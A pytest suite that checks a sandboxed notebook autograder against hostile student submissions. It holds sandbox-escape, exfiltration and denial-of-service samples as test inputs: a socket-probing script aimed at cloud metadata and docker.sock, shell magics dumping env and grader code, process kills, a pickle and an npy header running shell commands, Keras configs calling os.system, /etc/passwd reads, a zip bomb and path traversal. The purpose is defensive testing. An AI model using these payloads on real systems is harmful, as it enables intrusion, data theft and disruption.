"""Hostile submissions: none earns a mark without deserving it, tells a secret or stays."""

import base64
import contextlib
import io
import json
import os
import socket
import sys
import sysconfig
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import assignment
import numpy as np
import psutil
import pytest
from assignment import data, submission
from hostile import (
    BOMBS,
    ENDS,
    ENDS_IN_A_CALL,
    FLOODS,
    FOOLED,
    FORGED_MESSAGES,
    HARMLESS,
    HONEST,
    HUGE_MESSAGE,
    LOOPS,
    PATCHES,
    SPIES,
    STASH,
    STASH_2,
    STASH_3,
    TRIED,
    YES,
)

from tlcourse import CourseError, wire
from tlcourse.grading import STATUSES, answers, kernels, marking, sandbox
from tlcourse.grading.sandbox import MB, Limits

RELEASE = assignment.teacher()
QUICK = Limits(cell=12, total=40, memory=700 * MB, disk=32 * MB, output=4 * MB, processes=150)
TIME = Limits(cell=1, total=12, memory=700 * MB, disk=32 * MB, output=4 * MB, processes=150)
# The hidden tests, their inputs, the solutions, another's work, this machine.
SECRETS = [
    "SECRET-NOTE",
    "HIDDEN",
    "-7.25",
    "secret * 2",
    "5 * 11",
    "9, -9",
    "BEGIN SOLUTION",
    "range(1, 11)",
    "STOLEN",
    "rows.sum(axis=1))]",
    "OTHERS-WORK",
]
LARGEST_TEXT = 100_000  # characters of anything that a verdict says


@pytest.fixture(scope="session", autouse=True)
def _sandbox_is_here():
    try:
        sandbox.require()
    except CourseError as reason:
        pytest.skip(str(reason), allow_module_level=True)


@pytest.fixture
def grade(tmp_path, monkeypatch):
    """`grade(notebook, limits)`: the verdict, after a look at what grading has left behind."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    groups, make = [], sandbox._Group.make.__func__

    def made(cls, limits):
        groups.append(make(cls, limits))
        return groups[-1]

    monkeypatch.setattr(sandbox._Group, "make", classmethod(made))

    def run(notebook, limits=QUICK, release=RELEASE):
        started, files, processes = time.monotonic(), set(folder.iterdir()), children()
        known = len(groups)
        content = notebook if isinstance(notebook, bytes) else data(notebook)
        verdict = marking.grade_one(content, release, limits, sandbox=True)
        assert time.monotonic() - started < limits.total + 20
        assert children() - processes == set()
        assert set(folder.iterdir()) - files == set()
        # Every process of the sandbox is in its group, which cannot be removed while one lives.
        left = [path for group in groups[known:] for path in group.folders.values() if path.exists()]
        assert left == []
        assert verdict.status in STATUSES and isinstance(verdict.reason, str)
        assert bool(verdict.reason) == (verdict.status != "graded")
        names = [c.metadata.nbgrader.grade_id for c in release.cells() if marking._gives_points(c)]
        assert [mark.grade_id for mark in verdict.marks] == names
        for text in told(verdict):
            text.encode()
            assert [secret for secret in SECRETS if secret in text] == []
        assert (
            max(len(text) for text in [verdict.reason, *(mark.message for mark in verdict.marks)])
            <= LARGEST_TEXT
        )
        for output in shown(verdict):
            assert len(output.data) <= LARGEST_TEXT or output.kind != "text"
            assert output.kind in ("text", "png", "jpeg")
        return verdict

    return run


def children():
    return set(psutil.Process().children(recursive=True))


def told(verdict):
    """All that a learner may get to read and has not written."""
    return [verdict.reason, *(mark.message for mark in verdict.marks), *(o.data for o in shown(verdict))]


def shown(verdict):
    return [output for answer in verdict.answers for output in answer.outputs]


def points(verdict):
    return [mark.points for mark in verdict.marks]


def tried(verdict):
    return any(TRIED in output.data for output in shown(verdict) if output.kind == "text")


def with_attack(attack, **given):
    """A submission that attacks in its first answer; what it earns besides is what `given` deserves."""
    sources = FOOLED | given
    sources["q1"] = f"{attack.strip()}\n{sources['q1']}\nimport sys as _sys; _sys.stdout.write({TRIED!r})"
    return submission(**sources)


def indented(code):
    return "\n".join("    " + line for line in code.strip().splitlines())


def first(notebook, source, cell_type="code"):
    """`notebook` with a cell of the learner's own before all others."""
    cell = {"cell_type": cell_type, "metadata": {}, "source": source, "id": "mine"}
    return notebook | {"cells": [cell | ({"outputs": []} if cell_type == "code" else {}), *notebook["cells"]]}


# Marks for nothing


def test_what_attacks_start_from_earns_nothing_by_itself(grade):
    assert points(grade(submission(**FOOLED))) == [0, 0, 0]
    assert points(grade(submission(**HONEST))) == [1, 2, 3]


@pytest.mark.parametrize("name", PATCHES)
def test_patching_earns_nothing(grade, name):
    """Such code may cost the learner an honest answer in the same notebook, and gives none."""
    verdict = grade(with_attack(PATCHES[name]), Limits(cell=1, total=6) if name == "builtins" else QUICK)
    assert points(verdict) == [0, 0, 0]
    assert tried(verdict) or name in ("builtins", "displayhook")


def test_patching_everything_before_the_first_cell_earns_nothing(grade):
    """And costs the honest answer nothing where it spares what that one needs."""
    names = ("numpy", "ast_transformer", "input_transformer", "grading_modules", "names_of_the_tests")
    code = (
        "import numpy as np\n"
        + "\n".join(PATCHES[name] for name in names)
        + "\nglobals().update(old)\ndel int"
    )
    assert points(grade(first(submission(**FOOLED), code))) == [0, 0, 0]


@pytest.mark.parametrize("name", YES)
def test_objects_equal_to_everything_are_only_what_they_are(grade, name):
    answer = submission(**FOOLED | {"q1": YES[name] + f"\nprint({TRIED!r})", "q2": "pass", "q3": "pass"})
    verdict = grade(answer)
    assert points(verdict) == [0, 0, 0] and tried(verdict)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[" * 100_000,
        '{"value":' * 100_000,
        "9" * 10_000,
        '{"value": ' + "9" * 9_000 + "}",
        "null",
        "[]",
        "7",
        "{}",
        '{"value": {}}',
        '{"value": []}',
        '{"list": 7}',
        '{"list": "abc"}',
        '{"tuple": null}',
        '{"tuple": {"a": 1}}',
        '{"dict": 7}',
        '{"dict": [7]}',
        '{"dict": [[{"list": []}, {"value": 1}]]}',
        '{"float": []}',
        '{"float": "one"}',
        '{"npy": 7}',
        '{"npy": "AAAA"}',
        '{"npy": "%"}',
        '{"model": "AAAA"}',
        '{"model": null}',
        '{"table": 7}',
        '{"table": [[{"value": 1}]]}',
        '{"function": "y"}',
        '{"function": ["x"]}',
        '{"function": "x", "value": 1}',
        '{"error": "e"}',
        '{"error": null, "kind": []}',
        '{"error": {}, "kind": {"a": 1}}',
        '{"series": true}',
        '{"unknown": 1}',
        '{"get": "x"}',
        '{"list": [{"list": [{"value": {}}]}]}',
    ],
    ids=range(38),
)
def test_forged_replies_are_damaged_answers(text):
    with pytest.raises((wire.AnswerError, NameError, NotImplementedError)):
        wire.fetch("x", lambda request: text)


@pytest.mark.parametrize("kind", [{"value": True, "points": 6}, {"list": []}, {"tuple": []}, {"dict": []}])
def test_what_is_decoded_is_plain(kind):
    value = wire.fetch("x", lambda request: json.dumps(kind))
    assert type(value) in (bool, list, tuple, dict)


def npy(header, body=b""):
    """An `.npy` file with a header of the forger's own."""
    header = header.encode() + b" " * (-(len(header) + 11) % 64) + b"\n"
    content = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + body
    return json.dumps({"npy": base64.b64encode(content).decode()})


@pytest.mark.parametrize(
    "header",
    [
        "{'descr': '|O', 'fortran_order': False, 'shape': (1,)}",
        "{'descr': [('a', '|O')], 'fortran_order': False, 'shape': ()}",
        "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,)}",
        "{'descr': '<f8', 'fortran_order': False, 'shape': (-1,)}",
        "{'descr': '<f8', 'fortran_order': False, 'shape': (True,) * 9}",
        "{'descr': '<f8', 'fortran_order': False, 'shape': " + "(" * 200 + ")" * 200 + "}",
        "{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': ()}",
        "{'descr': '<f8'}",
    ],
    ids=["object", "object_field", "huge", "negative", "product", "deep", "code", "half"],
)
def test_forged_arrays_are_damaged_answers(header):
    with pytest.raises(wire.AnswerError):
        wire.fetch("x", lambda request: npy(header, b"cos\nsystem\n(S'echo STOLEN'\ntR."))


def test_an_archive_of_arrays_is_no_array():
    file = io.BytesIO()
    np.savez(file, a=np.ones(3))
    with pytest.raises(wire.AnswerError):
        wire.decode({"npy": base64.b64encode(file.getvalue()).decode()})


# Secrets


@pytest.mark.parametrize("name", [name for name in SPIES if name != "where_the_machine_keeps_things"])
def test_there_is_nothing_to_find(grade, name):
    verdict = grade(with_attack(SPIES[name], q2="pass", q3="pass"), Limits(cell=30, total=60))
    assert points(verdict) == [0, 0, 0] and tried(verdict)


def test_no_path_of_this_machine_is_told(grade):
    verdict = grade(
        with_attack(
            SPIES["where_the_machine_keeps_things"], q3="import sys\nraise ValueError(sys.path, __file__)"
        )
    )
    assert tried(verdict)
    paths = {str(sandbox.PACKAGE.parent), sys.prefix, sys.base_prefix, str(Path.home()), os.uname().nodename}
    assert [path for path in paths for text in told(verdict) if path in text] == []


@pytest.mark.parametrize("where", ["conda", "venv"])
def test_an_installed_course_is_hidden_wherever_it_lies(tmp_path, monkeypatch, where):
    """In an environment without a base (conda, pyenv), the packages are seen through Python's own folder."""
    base, packages = (
        tmp_path / "base",
        tmp_path / ("base" if where == "conda" else "venv") / "lib/python3.11/site-packages",
    )
    (packages / "tlcourse" / "exercises").mkdir(parents=True)
    (base / "bin").mkdir(parents=True)
    (base / "bin" / "python3").touch()
    monkeypatch.setattr(sys, "base_prefix", str(base))
    monkeypatch.setattr(sys, "prefix", str(base if where == "conda" else tmp_path / "venv"))
    monkeypatch.setattr(sysconfig, "get_path", lambda name: str(packages))
    monkeypatch.setattr(sandbox, "PACKAGE", packages / "tlcourse")
    arguments = sandbox._box(True, QUICK, 9)
    pairs = list(zip(arguments, arguments[1:], arguments[2:]))
    mounts = {Path(source): target for word, source, target in pairs if word == "--ro-bind"}
    hidden = [after for word, after, _ in pairs if word == "--tmpfs"]
    for source, target in mounts.items():
        if (packages / "tlcourse").is_relative_to(source) and target != "/course/tlcourse":
            assert str(Path(target) / (packages / "tlcourse").relative_to(source)) in hidden


def test_hidden_inputs_are_never_told(grade):
    """Whatever a function keeps of them, and however later code tells it."""
    verdict = grade(submission(q1=STASH, q2=STASH_2, q3=STASH_3))
    # Knowing the inputs helped nobody to an answer, and the honest part of it is honest.
    assert verdict.marks[0].points == 1.0
    assert any("0, 1, 2" in text for text in told(verdict))  # of the visible test it may tell


def test_names_of_the_hidden_tests_are_not_asked_for_before_them(grade):
    """In the run whose output is kept, the learner's kernel is asked for names of visible tests alone."""
    test = assignment.Q1_TEST.replace("SECRET-NOTE", "SECRET-NOTE").replace(
        "### END HIDDEN TESTS",
        "assert not callable(globals().get('OTHERS_NAME', 0)) or OTHERS_NAME\n### END HIDDEN TESTS",
    )
    release = assignment.teacher(questions=((assignment.Q1, test), (assignment.Q2, assignment.Q2_TEST)))
    spy = """
from tlcourse import wire
old, seen = wire.serve_coded, []
def serve(request, *a):
    import base64
    seen.append(base64.b64decode(request).decode())
    return old(request, *a)
wire.serve_coded = serve
"""
    verdict = grade(
        submission(release, q1=spy + HONEST["q1"], q2="print(seen)\n" + HONEST["q2"]), release=release
    )
    assert [text for text in told(verdict) if "OTHERS_NAME" in text] == []


# Ends, loops and bombs


@pytest.mark.parametrize("name", ENDS)
def test_an_end_costs_its_own_answer(grade, name):
    verdict = grade(submission(**HONEST | {"q1": f"{ENDS[name]}\n{FOOLED['q1']}"}), TIME)
    late = name in ("sys_exit_and_quit", "shutdown_message")  # they end the kernel after their cell
    assert points(verdict) == [0, 2, 3] or late and points(verdict)[0] == 0


@pytest.mark.parametrize("name", ENDS_IN_A_CALL)
def test_an_end_in_a_call_costs_its_own_answer(grade, name):
    answer = f"def double(x):\n{indented(ENDS_IN_A_CALL[name])}\n    return x"
    assert points(grade(submission(**HONEST | {"q1": answer}))) == [0, 2, 3]


def test_ends_without_end(grade):
    """Each cell ends its kernel; starting new ones has an end."""
    cells = [f"import os; os._exit({n})" for n in range(8)]
    notebook = submission(**HONEST)
    for cell in cells:
        notebook = first(notebook, cell)
    verdict = grade(notebook)
    assert verdict.status == "crashed"


def test_a_thread_that_ends_the_kernel_later(grade):
    code = "import os, threading\nthreading.Timer(1.0, os._exit, (0,)).start()"
    verdict = grade(submission(**FOOLED | {"q1": code, "q3": "import time; time.sleep(3)"}))
    assert points(verdict) == [0, 0, 0] and verdict.status == "crashed"


@pytest.mark.parametrize("name", LOOPS)
def test_a_loop_is_stopped(grade, name):
    verdict = grade(submission(**HONEST | {"q1": f"{LOOPS[name]}\n{FOOLED['q1']}"}), TIME)
    assert points(verdict) == [0, 2, 3]
    assert verdict.status == "timed out"


@pytest.mark.parametrize("name", ["plain", "catches_everything"])
def test_a_loop_in_a_call_is_stopped(grade, name):
    answer = f"def double(x):\n{indented(LOOPS[name])}\n    return x"
    verdict = grade(submission(**HONEST | {"q1": answer}), TIME)
    assert points(verdict) == [0, 2, 3]
    assert verdict.status == "timed out"


def test_loops_everywhere_end_with_the_submission(grade):
    notebook = submission(**{name: LOOPS["catches_everything"] for name in HONEST})
    for n in range(30):
        notebook = first(notebook, f"import time; time.sleep({100 + n})")
    verdict = grade(notebook, Limits(cell=1, total=6))
    assert points(verdict) == [0, 0, 0] and verdict.status == "timed out"


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_costs_its_own_answer(grade, name):
    verdict = grade(submission(**HONEST | {"q1": f"{BOMBS[name]}\n{FOOLED['q1']}"}))
    assert points(verdict) == [0, 2, 3]
    assert verdict.status == "limits"


def test_a_bomb_in_a_call_costs_its_own_answer(grade):
    answer = f"def double(x):\n{indented(BOMBS['memory'])}"
    verdict = grade(submission(**HONEST | {"q1": answer}))
    assert points(verdict) == [0, 2, 3] and verdict.status == "limits"


@pytest.mark.parametrize("name", FLOODS)
def test_a_flood_is_cut(grade, name):
    verdict = grade(submission(**HONEST | {"q1": f"{FLOODS[name]}\n{FOOLED['q1']}"}))
    assert points(verdict) == [0, 2, 3]
    assert verdict.status == "limits" or name == "html"


def test_a_long_message_is_cut(grade):
    """An exception's, forged, and shown by a test in its own words."""
    forged = "from tlcourse import wire\nimport base64, json\n"
    forged += "reply = json.dumps({'error': 'e' * 900_000}).encode()\n"
    forged += "wire.serve_coded = lambda *a: base64.b64encode(reply).decode()"
    assert points(grade(with_attack(forged))) == [0, 0, 0]


def test_half_characters_do_not_get_out(grade):
    code = "print('\\ud800 \\udfff')\ndisplay({'text/plain': '\\ud800'}, raw=True)\ntotal = 0"
    answer = "def largest(rows):\n    raise ValueError('\\ud800 \\udcff')"
    verdict = grade(submission(**HONEST | {"q2": code, "q3": answer}))
    assert points(verdict) == [1, 0, 0]


# Messages


def test_forged_messages_are_as_if_not_sent(grade):
    verdict = grade(with_attack(FORGED_MESSAGES, q3=HONEST["q3"]))
    assert points(verdict) == [0, 0, 3]  # its last words come after its own "idle", so they may be lost


def test_a_message_of_many_parts_does_not_fill_the_graders_memory(grade):
    process, most, done = psutil.Process(), [], threading.Event()

    def watch():
        while not done.wait(0.02):
            most.append(process.memory_info().rss)

    before = process.memory_info().rss
    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        verdict = grade(submission(**HONEST | {"q1": HUGE_MESSAGE}), Limits(cell=15, total=40))
    finally:
        done.set()
        watcher.join()
    assert points(verdict)[0] == 0
    assert max(most) - before < 400 * MB


def test_symlinks_for_sockets_lead_nowhere(grade):
    """The grader connects through /proc/PID/root, and a link that starts with / is followed on the host."""
    heard = []
    with (
        tempfile.TemporaryDirectory(dir="/tmp") as folder,  # a socket's path must be short
        listener(socket.AF_UNIX, f"{folder}/socket", heard) as address,
    ):
        attack = f"""
import glob, os, time
for path in glob.glob("/wire/*"):
    os.remove(path)
    os.symlink({address!r}, path)
for number in range(3, 1024):
    try:
        if os.readlink(f"/proc/self/fd/{{number}}").startswith("socket:"):
            os.close(number)
    except OSError:
        pass
time.sleep(3)
"""
        verdict = grade(submission(**HONEST | {"q1": attack}), TIME)
    assert points(verdict)[0] == 0
    assert heard == []


# Others, and the network


@contextlib.contextmanager
def listener(family, address, heard, kind=socket.SOCK_STREAM):
    """Something on the host that listens, and keeps what it hears."""
    with socket.socket(family, kind) as server:
        server.bind(address)
        if kind == socket.SOCK_STREAM:
            server.listen()
        server.settimeout(0.1)
        done = threading.Event()

        def listen():
            while not done.is_set():
                with contextlib.suppress(TimeoutError):
                    heard.append(server.accept()[1] if kind == socket.SOCK_STREAM else server.recv(10))

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield server.getsockname()
        finally:
            done.set()
            thread.join()


def test_nobody_is_heard_on_the_network(grade, tmp_path):
    heard = []
    path = str(tmp_path / "socket")[:100]
    with contextlib.ExitStack() as stack:
        tcp = stack.enter_context(listener(socket.AF_INET, ("0.0.0.0", 0), heard))
        udp = stack.enter_context(listener(socket.AF_INET, ("0.0.0.0", 0), heard, socket.SOCK_DGRAM))
        stack.enter_context(listener(socket.AF_UNIX, path, heard))
        stack.enter_context(listener(socket.AF_UNIX, "\0tlcourse-test", heard))
        mine = [a.address for n in psutil.net_if_addrs().values() for a in n if a.family == socket.AF_INET]
        verdict = grade(
            with_attack(f"""
import socket, subprocess, urllib.request
def attempt(family, kind, address):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(1)
            s.connect(address)
            s.send(b"STOLEN")
            if kind == socket.SOCK_STREAM: print("STOLEN", address)
    except OSError:
        pass
for host in {[*mine, "127.0.0.1", "1.1.1.1", "169.254.169.254"]!r}:
    attempt(socket.AF_INET, socket.SOCK_STREAM, (host, {tcp[1]}))
    attempt(socket.AF_INET, socket.SOCK_STREAM, (host, 80))
    attempt(socket.AF_INET, socket.SOCK_DGRAM, (host, {udp[1]}))
for path in ({path!r}, "\\0tlcourse-test", "/run/docker.sock", "/run/dbus/system_bus_socket"):
    attempt(socket.AF_UNIX, socket.SOCK_STREAM, path)
for family in (socket.AF_PACKET, socket.AF_INET):
    try:
        socket.socket(family, socket.SOCK_RAW, 1)
        print("STOLEN raw socket")
    except OSError:
        pass
try:
    print("STOLEN", socket.getaddrinfo("pypi.org", 443))
except OSError:
    pass
try:
    print("STOLEN", urllib.request.urlopen("http://pypi.org", timeout=2).read(100))
except OSError:
    pass
""")
        )
    assert points(verdict) == [0, 0, 0] and tried(verdict)
    assert heard == []


def test_another_learners_work_is_out_of_reach(grade):
    work = """
import os, socket
from multiprocessing import shared_memory
WORK = "OTHERS-" + "WORK"
os.environ["WORK"] = WORK
for path in ("/tmp/work", "/dev/shm/work", "/wire/work"):
    open(path, "w").write(WORK)
shared = shared_memory.SharedMemory("shared-work", create=True, size=100)
shared.buf[:11] = WORK.encode()
server = socket.socket(socket.AF_UNIX)
server.bind("\\0work")
server.listen()
"""
    spy = """
import glob, os, socket
from multiprocessing import shared_memory
for top in ("/tmp", "/dev/shm", "/wire", "/proc/*/root/tmp", "/proc/*/root/wire"):
    for path in glob.glob(top + "/*"):
        if os.path.isfile(path):
            print(path, open(path, "rb").read(1000))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/proc/net/unix"]:
    try:
        print(open(path).read(2000)[-1000:])
    except OSError:
        pass
for name in ("shared-work", "/shared-work"):
    try:
        print("STOLEN", bytes(shared_memory.SharedMemory(name).buf))
    except OSError:
        pass
try:
    socket.socket(socket.AF_UNIX).connect("\\0work")
    print("STOLEN")
except OSError:
    pass
"""
    other = kernels.Kernel(QUICK, learner=True, sandbox=True)
    try:
        assert other.run(work, 20)[0]["status"] == "ok"
        verdict = grade(with_attack(spy))
        assert points(verdict) == [0, 0, 0] and tried(verdict)
        assert other.run("print(open('/tmp/work').read(), len(os.listdir('/tmp')))", 20)[1][
            0
        ].data.startswith("OTHERS-WORK")
    finally:
        other.close()


@pytest.mark.parametrize("name", HARMLESS)
def test_it_does_no_harm(grade, name):
    verdict = grade(with_attack(HARMLESS[name], q2=HONEST["q2"], q3=HONEST["q3"]))
    assert points(verdict) == [0, 2, 3]
    assert tried(verdict) or name == "settings_of_numpy"


@pytest.mark.parametrize(
    "cell",
    [
        "%%script bash\n"
        "find / -xdev -maxdepth 4 -name '*.ipynb' 2> /dev/null; cat /course/tlcourse/grading/*; id; env",
        "%%bash --bg\nwhile true; do sleep 1; done",
        "!find / -path /proc -prune -o -path /site -prune -o -name 'grade*' -print; pip download requests",
        "%run /course/tlcourse/grading/marking.py\n%run /course/tlcourse/cli.py grade /tmp --out /tmp/out",
        "%load_ext autoreload\n%autoreload 3 -p\n%reset -f\n"
        "%config Application.log_level=0\n%logstart /tmp/log\n%pdb on",
        "%%python3\nimport os\nos.kill(os.getppid(), 19)",
        "%%html\n<script>alert(1)</script>",
        "%%capture\nimport os; os.system('kill -STOP 1; kill -9 1')",
    ],
    ids=["script", "background", "shell", "run", "extensions", "stop_the_parent", "html", "signals"],
)
def test_magic_helps_nobody(grade, cell):
    verdict = grade(submission(**HONEST | {"q1": cell}), TIME)
    assert points(verdict) == [0, 2, 3]


# Files that are no notebooks, and notebooks with something odd


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"{",
        b"null",
        b"7",
        b"[]",
        b'"cells"',
        b"[" * 1_000_000,
        b'{"cells":' * 200_000,
        b"\xff\xfe\x00",
        b"PK\x03\x04" * 99,
        b'{"cells": {}}',
        b'{"cells": null}',
        b'{"cells": "x"}',
        b'{"worksheets": [{"cells": []}], "nbformat": 3}',
        b'{"cells": ' + b"9" * 9_000 + b"}",
        b" " * (21 << 20),
        b'{"cells": [' + b"{}," * 2001 + b"{}]}",
        '{"cells": []}'.encode("utf-16")[:-1],
    ],
    ids=[
        "empty",
        "half",
        "null",
        "number",
        "list",
        "string",
        "deep_lists",
        "deep_dicts",
        "not_utf8",
        "zip",
        "cells_dict",
        "cells_null",
        "cells_string",
        "version_3",
        "cells_number",
        "huge",
        "many_cells",
        "utf_16_cut",
    ],
)
def test_what_is_no_notebook_is_unreadable(content):
    verdict = marking.grade_one(content, RELEASE, QUICK)
    assert verdict.status in ("unreadable", "limits") and verdict.reason
    assert points(verdict) == [0, 0, 0] and verdict.seconds < 20


ODD = [
    {},
    {"cells": []},
    {"cell_type": 7},
    {"cell_type": "code"},
    {"cell_type": ["code"], "source": []},
    None,
    7,
    "cell",
    [],
    {"cell_type": "code", "source": 7},
    {"cell_type": "code", "source": None},
    {"cell_type": "code", "source": {"a": 1}},
    {"cell_type": "code", "source": ["1/0", 7, None, ["x"]]},
    {"cell_type": "code", "source": "x", "metadata": None},
    {"cell_type": "code", "source": "x", "metadata": 7},
    {"cell_type": "code", "source": "x", "metadata": {"nbgrader": 7}},
    {"cell_type": "code", "source": "x", "metadata": {"nbgrader": {"grade_id": ["q1"]}}},
    {"cell_type": "code", "source": "x", "metadata": {"nbgrader": {"grade_id": {"q1": 1}}}},
    {
        "cell_type": "code",
        "source": "x",
        "metadata": {"nbgrader": {"grade_id": "q9", "points": 99}},
        "id": ["small-q1"],
    },
    {"cell_type": "code", "source": "x", "id": {"a": 1}, "outputs": 7},
    {"cell_type": "raw", "source": "x"},
    {"cell_type": "code", "source": "\ud800 = '\udfff'"},
    {"cell_type": "code", "source": "\x00\x00"},
    {"cell_type": "code", "source": "x" * 300_000},
    {"cell_type": "markdown", "source": "<script>alert(1)</script>"},
    {"cell_type": "heading", "level": float("nan"), "source": float("inf")},
    {"cell_type": "code", "source": "(" * 5000},
    {"cell_type": "code", "source": "x = " + "-" * 100_000 + "1"},
    {"cell_type": "markdown", "source": "q", "metadata": {"nbgrader": {"grade_id": "q1", "solution": True}}},
    {
        "cell_type": "code",
        "source": "1",
        "metadata": {"nbgrader": {"grade_id": "q1_test", "grade": True, "points": 99}},
    },
]


def test_odd_cells_cost_nothing(grade):
    notebook = submission(**HONEST)
    notebook["cells"] = [*ODD, *notebook["cells"], *ODD]
    notebook |= {"metadata": None, "nbformat": "4", "nbformat_minor": float("nan"), "more": [1]}
    assert points(grade(notebook)) == [1, 2, 3]


@pytest.mark.parametrize("cell", ODD, ids=range(len(ODD)))
def test_odd_cells_can_be_read(cell):
    found = answers.take(data({"cells": [cell]}), marking._released(RELEASE))
    json.dumps([found.answers, {str(k): v for k, v in found.further.items()}]).encode()
    for sources in [*found.answers.values(), *found.further.values()]:
        for source in sources:
            source.encode()


def test_forged_test_cells_and_points_do_not_count(grade):
    notebook = submission(**FOOLED)
    for cell in notebook["cells"]:
        marks = cell["metadata"].get("nbgrader", {})
        if marks.get("grade"):
            cell["source"] = "pass"
            marks |= {"points": 99, "solution": True, "task": True, "checksum": None, "schema_version": 1}
            cell["outputs"] = [
                {"output_type": "execute_result", "data": {"text/plain": "99.0"}, "metadata": {}}
            ]
        elif "grade_id" in marks:
            marks |= {"grade": True, "points": 99, "solution": False}
    notebook["cells"] += notebook["cells"]  # every cell twice
    assert points(grade(notebook)) == [0, 0, 0]


@pytest.mark.parametrize("language", ["R", "bash", "no-such-kernel"])
def test_the_kernel_is_ours_whatever_the_notebook_asks_for(language):
    notebook = submission(**HONEST)
    spec = {"name": language, "language": language, "display_name": language, "argv": ["sh", "-c", "kill 1"]}
    notebook["metadata"] = {"kernelspec": spec, "language_info": {"name": language}}
    found = answers.take(data(notebook), marking._released(RELEASE))
    assert found == answers.take(data(submission(**HONEST)), marking._released(RELEASE))


# Models


def archive(config, weights=b"", **more):
    """A `.keras` file by hand."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("config.json", config if isinstance(config, bytes | str) else json.dumps(config))
        made.writestr("metadata.json", json.dumps({"keras_version": "3.0.0", "date_saved": "x"}))
        made.writestr("model.weights.h5", weights)
        for name, content in more.items():
            made.writestr(name, content)
    return {"model": base64.b64encode(file.getvalue()).decode()}


def layered(*layers, **more):
    config = {"name": "m", "trainable": True, "layers": list(layers)}
    model = {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None}
    return model | {"build_config": {"input_shape": [None, 3]}} | more


def layer(name, module="keras.layers", registered=None, **config):
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


def function(name, module):
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


DENSE = {"units": 3}
FORGED_MODELS = {
    "lambda": layered(layer("Lambda", function={"class_name": "__lambda__", "config": {"code": "AAAA"}})),
    "lambda_elsewhere": layered(layer("Lambda", module="keras.src.layers.core.lambda_layer")),
    "torch": layered(layer("TorchModuleWrapper")),
    "savedmodel": layered(layer("TFSMLayer", filepath="/tmp")),
    "os_system": layered(layer("system", module="os", command="echo STOLEN > /tmp/stolen")),
    "subprocess": layered(layer("Popen", module="subprocess", args=["sh"])),
    "get_file": layered(layer("Dense", **DENSE, activation=function("get_file", "keras.utils"))),
    "get_file_class": layered(layer("get_file", module="keras.utils", origin="http://x", fname="x")),
    "custom": layered(layer("Mine", module="__main__", registered="mine>Mine")),
    "no_module": layered({"class_name": "Dense", "config": DENSE}),
    "module_null": layered(layer("Dense", module=None, **DENSE)),
    "module_list": layered(layer("Dense", module=["keras.layers"], **DENSE)),
    "class_dict": layered({"module": "keras.layers", "class_name": {"a": 1}, "config": DENSE}),
    "lookup": layered(layer("StringLookup", vocabulary="/etc/passwd")),
    "text": layered(layer("TextVectorization", vocabulary="/etc/passwd")),
    "in_compile": layered(layer("Dense", **DENSE), nested={"list": [[[function("system", "os")]]]}),
    "list": [1, 2],
    "null": None,
    "deep": '{"a":' * 100_000,
    "load_model_as_function": layered(
        layer("Dense", **DENSE, activation=function("load_model", "keras.saving"))
    ),
    "save_model_as_function": layered(
        layer("Dense", **DENSE, activation=function("save_model", "keras.models"))
    ),
}


@pytest.mark.parametrize("name", FORGED_MODELS)
def test_forged_models_are_refused_before_keras_sees_them(monkeypatch, name):
    keras = sys.modules.get("keras")
    monkeypatch.setitem(sys.modules, "keras", None)  # importing it would be an ImportError
    try:
        with pytest.raises(wire.AnswerError, match="contains|damaged \\((?!ImportError|ModuleNotFound)"):
            wire.decode(archive(FORGED_MODELS[name]))
    finally:
        if keras:
            sys.modules["keras"] = keras


def test_a_zip_bomb_is_refused():
    bomb = archive({}, **{"model.weights.h5.more": b"\0" * (300 << 20)})
    with pytest.raises(wire.AnswerError, match="larger than"):
        wire.decode(bomb)


@pytest.mark.parametrize("kind", ["external", "link", "virtual", "assets"])
def test_a_models_weights_are_its_own(tmp_path, kind):
    """A file in a model may name another file on the machine that opens it, and so fetch or write it."""
    keras, h5py = pytest.importorskip("keras"), pytest.importorskip("h5py")
    other, weights = tmp_path / "other.h5", tmp_path / "weights.h5"
    with h5py.File(other, "w") as file:
        file["x"] = np.full((3, 3), 7.0)
    model = keras.Sequential([keras.Input((3,)), keras.layers.Dense(3, use_bias=False)])
    parts = {}
    with zipfile.ZipFile(io.BytesIO(base64.b64decode(wire.encode(model)["model"]))) as made:
        parts = {name: made.read(name) for name in made.namelist()}
    weights.write_bytes(parts["model.weights.h5"])
    with h5py.File(weights, "a") as file:
        found = []
        file.visititems(lambda path, item: found.append(path) if isinstance(item, h5py.Dataset) else None)
        if kind != "assets":
            del file[found[0]]
        if kind == "external":
            file.create_dataset(found[0], shape=(3, 3), dtype="f4", external=[(str(other), 0, 36)])
        elif kind == "link":
            file[found[0]] = h5py.ExternalLink(str(other), "x")
        elif kind == "virtual":
            layout = h5py.VirtualLayout((3, 3), "f8")
            layout[:] = h5py.VirtualSource(str(other), "x", (3, 3))
            file.create_virtual_dataset(found[0], layout)
    parts["model.weights.h5"] = weights.read_bytes()
    if kind == "assets":
        parts |= {"assets/../../../../../../../../" + str(tmp_path) + "/STOLEN": b"x", "assets/x": b"x"}
    config = parts.pop("config.json")
    parts.pop("metadata.json")
    with pytest.raises(wire.AnswerError):
        wire.decode(archive(config, parts.pop("model.weights.h5"), **parts))
    assert not (tmp_path / "STOLEN").exists()


def test_functions_of_python_are_none_of_keras():
    """Keras calls its own by the module "builtins"."""
    pytest.importorskip("keras")
    for name in ("eval", "exec", "open", "print", "getattr", "__import__"):
        with pytest.raises(wire.AnswerError):
            wire.decode(archive(layered(layer("Dense", **DENSE, activation=function(name, "builtins")))))


def test_after_all_that_the_next_learner_gets_full_marks(grade):
